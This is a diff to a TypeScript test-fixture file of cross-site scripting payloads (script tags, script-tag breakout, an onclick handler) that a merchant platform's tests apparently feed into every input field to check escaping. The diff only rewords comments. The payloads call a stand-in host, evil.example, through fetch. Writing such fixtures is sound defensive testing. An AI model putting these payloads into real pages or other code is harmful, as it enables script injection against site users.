@@ -1,11 +1,11 @@
 /**
- * What a merchant, or whoever has taken over their account, might put into a field
+ * What a merchant, or an attacker with their account, might put into a field
  * (docs/contract/invariants.md#32).
  */
 const RUN = "window.__ran=1;fetch('https://evil.example/ran')";
 const LOAD = 'https://evil.example/css';
 
-/** What runs where it is not escaped. */
+/** Runs if it isn't escaped. */
 export const MARKUP: readonly string[] = [
   `<script>${RUN}</script>`,
   `</script><script>${RUN}</script>`,
@@ -110,5 +110,5 @@ const MARKDOWN = [
   `<a href="https://evil.example" onclick="${RUN}">a</a>`,
 ];
 
-/** Every payload goes into every field: what is harmless in one place may not be in another. */
+/** Every payload is put into every field: what is harmless in one place may not be in another. */
 export const PAYLOADS: readonly string[] = [...MARKUP, ...ADDRESSES, ...STYLES, ...MARKDOWN];
